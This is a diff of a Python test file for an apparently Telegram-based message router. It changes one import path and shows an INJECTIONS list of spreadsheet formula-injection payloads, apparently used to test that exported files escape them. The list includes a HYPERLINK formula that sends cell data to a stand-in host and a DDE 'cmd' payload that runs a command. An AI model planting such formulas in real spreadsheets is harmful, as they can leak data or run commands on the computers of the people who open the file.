@@ -8,7 +8,7 @@ import pytest
 from openpyxl.utils.escape import unescape
 
 from conftest import SHANGHAI, message
-from handlers.router import dispatch
+from handlers.core.router import dispatch
 
 GROUP = dict(platform="telegram", chat_id="-100", chat_type="group", chat_title="城东街道团工委")
 INJECTIONS = ['=HYPERLINK("http://example.invalid/?q="&A1,"点此领取")', "=cmd|' /C calc'!A0", "+1+2", "-3+4",
